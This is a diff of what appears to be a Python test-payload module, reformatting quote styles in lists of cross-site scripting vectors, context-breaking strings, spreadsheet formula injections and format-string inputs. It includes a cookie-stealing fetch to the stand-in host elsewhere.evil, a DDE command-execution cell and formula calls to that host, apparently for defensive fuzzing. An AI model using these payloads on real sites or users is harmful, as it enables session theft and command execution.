@@ -8,7 +8,12 @@ MARK = "__pwned"
 """What a script sets, if it ever runs."""
 ELSEWHERE = "https://elsewhere.evil"
 
-_ACTS = (f"window.{MARK}=1", "alert(1)", f"fetch('{ELSEWHERE}/'+document.cookie)", "import('//evil')")
+_ACTS = (
+    f"window.{MARK}=1",
+    "alert(1)",
+    f"fetch('{ELSEWHERE}/'+document.cookie)",
+    "import('//evil')",
+)
 
 _TAGS = (
     "<script>{act}</script>",
@@ -20,14 +25,14 @@ _TAGS = (
     "<iframe srcdoc='<script>{act}</script>'></iframe>",
     "<math><mtext><img src=x onerror={act}></mtext></math>",
     "<input autofocus onfocus={act}>",
-    "<a href=\"javascript:{act}\">x</a>",
+    '<a href="javascript:{act}">x</a>',
     "<video><source onerror={act}></video>",
-    "<object data=\"javascript:{act}\"></object>",
+    '<object data="javascript:{act}"></object>',
     "<template><script>{act}</script></template>",
     "<style onload={act}></style>",
     "<marquee onstart={act}>x</marquee>",
 )
-_BREAKS = ("\"", "'", "</td>", "</script>", "-->", "]]>", "`", "</title>", "</bdi>", "\\\"")
+_BREAKS = ('"', "'", "</td>", "</script>", "-->", "]]>", "`", "</title>", "</bdi>", '\\"')
 _BROKEN_BY = (
     "<img src=x onerror=alert(1)>",
     " onmouseover=alert(1) x=",
@@ -99,16 +104,16 @@ _UNICODE = (
     "W" * 64 + "<b>",
 )
 _CELLS = (
-    "=HYPERLINK(\"http://elsewhere.evil\",\"x\")",
+    '=HYPERLINK("http://elsewhere.evil","x")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
     "\t=1+1",
-    "\"quoted\",cell",
+    '"quoted",cell',
     "a;b,c|d",
     "%0A=1+1",
-    "=IMPORTXML(\"http://elsewhere.evil\")",
+    '=IMPORTXML("http://elsewhere.evil")',
 )
 _FORMATS = (
     "%s%s%s%n",
@@ -149,7 +154,7 @@ PAYLOADS = (
     "<plaintext>",
     "<!--",
     "<![CDATA[",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<svg><script href=data:,alert(1) />",
     "<button formaction=javascript:alert(1)>x",
     "<frameset onload=alert(1)>",
